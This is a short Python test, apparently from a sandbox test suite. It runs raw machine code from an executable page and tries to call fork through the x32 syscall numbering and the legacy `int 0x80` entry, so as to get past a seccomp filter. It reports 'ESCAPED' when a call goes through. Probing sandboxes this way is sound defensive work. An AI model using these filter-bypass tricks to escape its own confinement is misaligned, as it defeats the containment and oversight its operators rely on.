"""Enters the kernel as a 32-bit and as an x32 program would, where call numbers mean something else.

Layer: kernel
Escape: a call that the filter refuses is made by another entry, such as fork by `int 0x80`
Control: machine code in an executable page can be run
Expect: Crashed | none
"""

# control
import ctypes
import mmap
import os

page = mmap.mmap(
    -1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))


def run(code):
    page[: len(code)] = code
    return ctypes.CFUNCTYPE(ctypes.c_long)(start)()


intel = os.uname().machine == "x86_64"
not intel or run(b"\xb8\x2a\0\0\0\xc3") == 42

# attack
found = []
if intel:
    print("about to enter by x32 number: fork is 57")
    made = run(b"\xb8" + (0x4000_0000 | 57).to_bytes(4, "little") + b"\x0f\x05\xc3")
    found.append(made)
    if made >= 0:
        print("ESCAPED: x32")
    made = run(b"\x53\xb8\x02\0\0\0\xcd\x80\x5b\xc3")
    found.append(made)
    if made >= 0:
        print("ESCAPED: int 0x80")
found
